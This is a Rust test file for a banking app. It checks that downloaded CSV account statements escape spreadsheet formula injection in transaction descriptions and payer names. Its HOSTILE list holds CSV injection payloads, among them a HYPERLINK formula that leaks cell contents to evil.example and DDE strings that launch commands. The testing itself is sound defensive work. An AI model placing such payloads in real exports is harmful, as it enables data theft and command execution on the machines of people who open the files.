//! A spreadsheet that opens a statement runs nothing and shows what was booked, whatever stands in a line of it (B11).

use warifu::bank_store::journal;
use warifu_bank::jst;
use warifu_bank::ledger::{JournalKind, Postings};
use warifu_bank::uid::Uid;
use warifu_bank::yen::Yen;

use super::ground::Ground;
use crate::harness::{Engine, customer_account};

both_engines!(
    no_cell_of_a_statement_is_a_formula_and_none_ends_early,
    a_payer_whose_name_begins_like_a_formula_is_marked_in_the_payees_file,
);

const ID: &str = "12345678901";

/// What a line may say that was booked by whatever way.
const HOSTILE: [&str; 18] = [
    "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+81-3-0000-0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "a\",=1+1,\"",
    "a\r\n=1+1",
    "給与, \"賞与\"",
];

/// Rows and cells of a file as RFC 4180 writes them.
fn cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut letters = text.trim_start_matches('\u{feff}').chars().peekable();
    let mut quoted = false;
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => {
                letters.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted && letters.peek() == Some(&'\n') => {
                letters.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            other => cell.push(other),
        }
    }
    assert!(!quoted && row.is_empty() && cell.is_empty(), "{text}");
    rows
}

/// Panics where a spreadsheet would calculate: what it skips at a cell's start is skipped here too.
fn require_no_formula(cell: &str) {
    let unseen = |letter: char| {
        letter.is_whitespace() || letter.is_control() || "\u{feff}\u{200b}".contains(letter)
    };
    let start = cell.trim_start_matches(unseen);
    assert!(
        !start.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
        "{cell:?}"
    );
}

async fn no_cell_of_a_statement_is_a_formula_and_none_ends_early(engine: Engine) {
    let ground = Ground::new(engine).await;
    ground.customer(ID, 1, 0).await;
    let now = ground.site.now();
    let booked = ground.site.place.with(|connection| {
        connection.transaction(|tx| {
            for (number, text) in HOSTILE.iter().enumerate() {
                let yen = i64::try_from(number).unwrap() + 1;
                let mut random = [0; 10];
                random[..8].copy_from_slice(&yen.to_be_bytes());
                let postings = Postings::deposit(customer_account(1), Yen(yen), text).unwrap();
                let new = journal::New {
                    id: Uid::new(now, &random),
                    kind: JournalKind::Deposit,
                    reverses: None,
                    receipt: "",
                    postings: &postings,
                };
                assert_eq!(journal::book(tx, &new, now)?, journal::Booked::Done);
            }
            Ok(())
        })
    });
    booked.unwrap();
    let mut customer = ground.signed_in(ID, None, "203.0.113.5");
    let account = customer_account(1).to_stored();
    let file = customer.get(&format!("/accounts/{account}/csv"));
    assert_eq!(file.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(file.header("x-content-type-options"), Some("nosniff"));
    let disposition = file.header("content-disposition").unwrap();
    assert!(disposition.starts_with("attachment"), "{disposition}");
    let rows = cells(file.text());
    assert_eq!(rows.len(), HOSTILE.len() + 1);
    for (number, row) in rows.iter().enumerate() {
        assert_eq!(row.len(), 5, "{row:?}");
        row.iter().for_each(|cell| require_no_formula(cell));
        if let Some(text) = number.checked_sub(1).map(|number| HOSTILE[number]) {
            assert!(row[1].ends_with(text), "{row:?}");
            assert_eq!(row[0], jst::day(now).to_string());
        }
    }
    ground.close().await;
}

async fn a_payer_whose_name_begins_like_a_formula_is_marked_in_the_payees_file(engine: Engine) {
    let ground = Ground::new(engine).await;
    let payer = ground.customer(ID, 1, 100_000).await;
    ground.customer("12345678902", 2, 0).await;
    let token = ground.site.registered(payer).await;
    let hostile = "UPDATE contracts SET kana = '-2-3' WHERE id = 12345678901";
    ground.site.place.meddle(hostile);
    let mut attacker = ground.signed_in(ID, Some(&token), "198.51.100.66");
    let own = ground.site.bank().settings().code.clone();
    let to_own = [
        ("bank", own.as_str()),
        ("branch", "101"),
        ("number", "2"),
        ("name", "ﾐﾎﾝﾊﾅｺ"),
    ];
    for others in [&[("name", "-2-3")][..], &to_own] {
        let mut fields = ground.transfer(1, 1_000);
        fields.retain(|(name, _)| others.iter().all(|(other, _)| other != name));
        fields.extend(
            others
                .iter()
                .map(|(name, value)| (*name, (*value).to_owned())),
        );
        let confirm = attacker.orders("/transfer", &fields);
        assert!(confirm.starts_with("/confirm/"), "{confirm}");
        let code = ground.site.code(&token).to_string();
        let done = attacker.posts(&confirm, &[("code", &code)]);
        assert!(done.starts_with("/result/"), "{done}");
        ground.site.next_code();
    }
    let mut payee = ground.signed_in("12345678902", None, "203.0.113.5");
    for (person, number, lines) in [(&mut attacker, 1, 3), (&mut payee, 2, 1)] {
        let account = customer_account(number).to_stored();
        let file = person.get(&format!("/accounts/{account}/csv"));
        let rows = cells(file.text());
        assert_eq!(rows.len(), lines + 1, "{rows:?}");
        assert!(rows.iter().flatten().any(|cell| cell == "1000"), "{rows:?}");
        let named = rows.iter().flatten().filter(|cell| cell.contains("-2-3"));
        assert!(named.count() >= 1, "{rows:?}");
        rows.iter()
            .flatten()
            .for_each(|cell| require_no_formula(cell));
    }
    ground.close().await;
}
